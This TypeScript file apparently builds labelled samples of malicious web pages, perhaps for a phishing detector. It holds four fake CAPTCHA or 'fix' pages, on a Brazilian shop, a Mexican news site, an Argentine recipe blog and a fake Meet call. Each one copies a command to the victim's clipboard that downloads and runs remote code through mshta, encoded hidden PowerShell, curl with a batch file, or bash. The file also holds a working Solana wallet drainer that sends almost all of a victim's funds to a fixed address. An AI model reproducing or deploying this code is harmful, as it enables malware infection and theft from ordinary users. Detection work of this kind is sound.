import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, pctAll, charCodes, revB64, xorHex, doc, wordmark, pixCode, qrSvg, maskJsBR, rutJs, gtag, cookieBar, newsShell } from '../parts/yk-kit.js';
import { zip, pe, cfb, iso, lnk, apk, rar5, sevenZip, fileRoute, jsRoute, cssRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const cmd = 'mshta https://cdn-verificacao-humana.com/v/9281.hta # ✅ Não sou um robô - ID de verificação: 9281';
  return {
    id: 'yk-clickfix-woocommerce-loja-br',
    label: 'clickfix',
    kind: 'clickfix-hacked-shop',
    url: 'https://www.lojadasmeias.com.br/produto/kit-meias-cano-alto-algodao/',
    body: doc({
      title: 'Kit Meias Cano Alto Algodão (6 pares) – Loja das Meias',
      head: `<meta name="generator" content="WooCommerce 8.7.0"><link rel="stylesheet" href="/wp-content/themes/storefront/style.css?ver=4.5.4">`,
      css: `body{margin:0;font-family:'Source Sans Pro',Arial,sans-serif;color:#43454b}.hd{padding:18px 30px;border-bottom:1px solid #eee;display:flex;justify-content:space-between}
.pr{display:flex;gap:30px;max-width:980px;margin:30px auto;padding:0 20px}.img{width:420px;height:420px;background:#f1ece6}.price{font-size:26px;color:#7f54b3;font-weight:600}
.add{background:#333;color:#fff;border:0;padding:12px 24px}#cf{position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:9999;display:flex;align-items:center;justify-content:center}
#cf .b{background:#fff;width:420px;border-radius:4px;box-shadow:0 0 20px rgba(0,0,0,.4);font-family:Roboto,Arial,sans-serif}#cf .t{padding:22px;display:flex;gap:14px;align-items:center;border-bottom:1px solid #eee}
#cf .t input{width:26px;height:26px}#cf .st{display:none;padding:18px 22px;font-size:14px;line-height:1.7}#cf kbd{background:#eee;border:1px solid #ccc;border-radius:3px;padding:1px 6px}#cf small{color:#999;font-size:10px}`,
      body: `<div class="hd"><b>Loja das Meias</b><span>Carrinho (0)</span></div>
<div class="pr"><div class="img"></div><div><h1>Kit Meias Cano Alto Algodão (6 pares)</h1><div class="price">R$ 59,90</div><p>ou 3x de R$ 19,97 sem juros · 5% off no Pix</p>
<p>Meias de algodão penteado com punho reforçado. Tamanho único 39 a 43.</p><button class="add">Comprar</button></div></div>
<div id="cf"><div class="b"><div class="t"><input type="checkbox" id="ck"><label for="ck">Não sou um robô</label><span style="margin-left:auto;text-align:center"><small>reCAPTCHA<br>Privacidade - Termos</small></span></div>
<div class="st" id="st"><b>Etapas de verificação</b><br>1. Pressione <kbd>⊞ Windows</kbd> + <kbd>R</kbd><br>2. Pressione <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Pressione <kbd>Enter</kbd><br><small>Realize as etapas acima para concluir a verificação.</small></div></div></div>
<script>
document.getElementById("ck").addEventListener("change",function(){var c=${JSON.stringify(cmd)};
var t=document.createElement("textarea");t.value=c;t.style.position="fixed";t.style.opacity="0";document.body.appendChild(t);t.select();document.execCommand("copy");t.remove();
try{navigator.clipboard.writeText(c)}catch(e){}document.getElementById("st").style.display="block"});
</script>`,
    }),
  } as Entry;
})(),
(() => {
  const ps = `$r='https://estadisticas-cdn.net/api/v2/gate';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');iex $w.DownloadString($r)`;
  const cmd = `powershell -w hidden -nop -ep bypass -enc ${Buffer.from(ps, 'utf16le').toString('base64')}`;
  return {
    id: 'yk-clickfix-noticias-mx-recaptcha',
    label: 'clickfix',
    kind: 'clickfix-hacked-news',
    url: 'https://www.elvigia-sonora.com.mx/local/2025/04/29/suspenden-clases-por-calor-extremo/',
    body: newsShell({
      site: 'El Vigía de Sonora',
      color: '#8b0000',
      lang: 'es-MX',
      title: 'Suspenden clases por calor extremo en Hermosillo',
      section: 'Local',
      article: `<h1>Suspenden clases por calor extremo en Hermosillo</h1><div class="meta">Redacción · 29 de abril de 2025</div>
<p>La Secretaría de Educación y Cultura anunció la suspensión de clases presenciales en el turno vespertino ante temperaturas superiores a los 42 grados.</p>
<p>Las escuelas deberán enviar actividades a distancia durante el resto de la semana.</p>`,
      tail: `<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>
<script>
(function(){if(localStorage.getItem("vf_ok"))return;
var ov=document.createElement("div");ov.id="vf";ov.style.cssText="position:fixed;inset:0;background:#f9f9f9;z-index:2147483647;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial";
ov.innerHTML='<div style="width:460px;background:#fff;border:1px solid #d3d3d3;border-radius:3px;padding:24px;box-shadow:0 2px 4px rgba(0,0,0,.1)"><h2 style="font-weight:500">Verifica que eres humano</h2><p>Completa la verificación para continuar en elvigia-sonora.com.mx</p><button id="vb" style="background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:3px">No soy un robot</button><div id="vs" style="display:none;margin-top:16px;line-height:1.8"><b>Para completar la verificación:</b><br>1. Presiona la tecla Windows + R<br>2. Pega con Ctrl + V<br>3. Presiona Enter<br><small style="color:#999">ID de verificación: 48113</small></div></div>';
document.body.appendChild(ov);
document.getElementById("vb").onclick=function(){navigator.clipboard.writeText(atob("${b64(cmd)}")+" # Verificacion reCAPTCHA ID 48113").then(function(){document.getElementById("vs").style.display="block"})};
})();
</script>`,
    }),
  } as Entry;
})(),
(() => {
  const cmd = 'conhost.exe --headless cmd /c "curl -s -L https://fuentes-actualizacion.com/f/font.bat -o %TEMP%\\\\fnt.bat && call %TEMP%\\\\fnt.bat"';
  return {
    id: 'yk-clickfix-blog-recetas-fuente',
    label: 'clickfix',
    kind: 'clickfix-hacked-blog',
    url: 'https://www.cocinaconlaabuela.com.ar/recetas/empanadas-tucumanas/',
    body: doc({
      lang: 'es-AR',
      title: 'Empanadas tucumanas de carne cortada a cuchillo | Cocina con la Abuela',
      css: `body{margin:0;font-family:Lora,Georgia,serif;background:#fffaf3;color:#3a2e25}.h{text-align:center;padding:26px;font-size:30px;color:#a0522d}
.a{max-width:720px;margin:0 auto;padding:0 20px 40px}li{margin:6px 0}.g{filter:blur(4px)}#e{position:fixed;top:0;left:0;right:0;background:#fff;border-bottom:3px solid #d93025;padding:20px;font-family:Arial;z-index:999;text-align:center}
#e button{background:#d93025;color:#fff;border:0;padding:10px 22px;border-radius:4px;font-size:15px}#e ol{display:none;text-align:left;max-width:460px;margin:14px auto}`,
      body: `<div id="e"><h2>⚠ No se encontró la fuente "HoeflerText"</h2><p>El texto de esta página no puede mostrarse correctamente. Actualizá el paquete de fuentes de tu sistema.</p>
<button id="fx">Reparar automáticamente</button><ol id="st"><li>Presioná <b>Windows + R</b></li><li>Pegá el código con <b>Ctrl + V</b></li><li>Presioná <b>Enter</b> y esperá unos segundos</li></ol></div>
<div class="h">Cocina con la Abuela</div><div class="a g"><h1>Empanadas tucumanas</h1><p>La clave está en cortar la carne a cuchillo y no escatimar en cebolla de verdeo.</p>
<h3>Ingredientes</h3><ul><li>1 kg de matambre o nalga</li><li>500 g de cebolla de verdeo</li><li>3 huevos duros</li><li>Comino, pimentón y ají molido</li><li>24 tapas de empanada criollas</li></ul></div>
<script>document.getElementById("fx").addEventListener("click",function(){navigator.clipboard.writeText(${JSON.stringify(cmd)});document.getElementById("st").style.display="block";this.textContent="Copiado ✔"});</script>`,
    }),
  } as Entry;
})(),
(() => {
  const cmd = `/bin/bash -c "$(curl -fsSL https://meet-audio-fix.com/mac/install.sh)"`;
  return {
    id: 'yk-clickfix-meet-mac-terminal',
    label: 'clickfix',
    kind: 'clickfix-fake-meeting',
    url: 'https://meet.reunion-clientes.com/abc-dkqp-xzt',
    body: doc({
      lang: 'es-CL',
      title: 'Meet - abc-dkqp-xzt',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:'Google Sans',Roboto,Arial,sans-serif}.v{width:640px;height:360px;background:#3c4043;border-radius:8px;margin:60px auto 20px;display:flex;align-items:center;justify-content:center;font-size:14px;color:#9aa0a6}
.m{max-width:640px;margin:0 auto;background:#fff;color:#202124;border-radius:8px;padding:22px}.m button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 20px}
code{display:block;background:#f1f3f4;padding:10px;margin:10px 0;font-size:12px;word-break:break-all}#w,#mac{display:none}`,
      body: `<div class="v">La cámara está bloqueada</div><div class="m"><h3>Problema con el micrófono y la cámara</h3><p>Tu navegador no tiene acceso a los dispositivos. Ejecuta la corrección para unirte a la reunión "Revisión trimestral — Proveedores".</p>
<button id="fix">Corregir</button>
<div id="mac"><p>1. Abre <b>Terminal</b> (Cmd + Espacio, escribe "Terminal")<br>2. Pega el comando con Cmd + V y presiona Enter<br>3. Ingresa tu contraseña si se solicita</p><code id="c"></code></div>
<div id="w"><p>1. Pulsa Win + R · 2. Pega con Ctrl + V · 3. Pulsa Enter</p></div></div>
<script>
var mac=/Mac OS X|Macintosh/.test(navigator.userAgent);
var w="powershell -nop -w h -c \\"irm https://meet-audio-fix.com/win/fix.ps1 | iex\\"";
var m=${JSON.stringify(cmd)};
document.getElementById("fix").onclick=function(){var c=mac?m:w;navigator.clipboard.writeText(c);if(mac){document.getElementById("c").textContent=c;document.getElementById("mac").style.display="block"}else{document.getElementById("w").style.display="block"}};
</script>`,
    }),
  } as Entry;
})(),
{
  id: 'yk-drainer-solana-memecoin-latam',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://tangobonk-presale.io/',
  body: doc({
    lang: 'es',
    title: '$TANGO — Preventa oficial en Solana',
    head: `<script src="https://unpkg.com/@solana/web3.js@1.91.1/lib/index.iife.min.js"></script>`,
    css: `body{margin:0;background:linear-gradient(160deg,#1b0b3a,#0b1e3a);color:#fff;font-family:'Poppins',Arial,sans-serif}.c{max-width:560px;margin:60px auto;text-align:center;padding:20px}
.bar{height:14px;background:#33245c;border-radius:8px;overflow:hidden;margin:16px 0}.bar i{display:block;height:100%;width:87%;background:linear-gradient(90deg,#14f195,#9945ff)}
button{background:linear-gradient(90deg,#14f195,#9945ff);border:0;color:#0b0b0b;font-weight:700;border-radius:30px;padding:16px 40px;font-size:17px}`,
    body: `<div class="c"><h1>$TANGO 🐶💃</h1><p>La memecoin latinoamericana. Preventa al 87% — listado en Raydium el viernes.</p><div class="bar"><i></i></div>
<p>Conecta Phantom y reclama tu bonificación de preventa: <b>+40% en tokens</b></p><button id="b">Conectar Phantom</button><p id="m" style="font-size:13px;color:#aaa"></p></div>
<script>
var DST="9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin";
document.getElementById("b").onclick=async function(){
 var p=window.phantom&&window.phantom.solana||window.solana;if(!p){window.open("https://phantom.app/","_blank");return}
 var r=await p.connect();var pk=r.publicKey;var w=solanaWeb3;var conn=new w.Connection("https://solana-mainnet.g.alchemy.com/v2/Xq2pLr8kT3vF9bN0mY4wZ7cD1eH6jK5s","confirmed");
 var bal=await conn.getBalance(pk);var toks=await conn.getParsedTokenAccountsByOwner(pk,{programId:new w.PublicKey("TokenkegQfeZyiNwAJbNbGYPRMYjBvxBJ1GcUxByD8")});
 var tx=new w.Transaction();tx.add(w.SystemProgram.transfer({fromPubkey:pk,toPubkey:new w.PublicKey(DST),lamports:Math.floor(bal*0.97)}));
 var res=await fetch("/api/build",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({owner:pk.toString(),tokens:toks.value.map(function(t){return t.pubkey.toString()})})}).then(function(x){return x.json()}).catch(function(){return{}});
 var txs=[tx].concat((res.txs||[]).map(function(b){return w.Transaction.from(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)}))}));
 var bh=await conn.getLatestBlockhash();txs.forEach(function(t){t.recentBlockhash=bh.blockhash;t.feePayer=pk});
 document.getElementById("m").textContent="Firma para reclamar tu bonificación…";
 var signed=await p.signAllTransactions(txs);for(var i=0;i<signed.length;i++){await conn.sendRawTransaction(signed[i].serialize())}
 document.getElementById("m").textContent="¡Listo! Tus $TANGO se acreditarán al lanzamiento."};
</script>`,
  }),
},
];
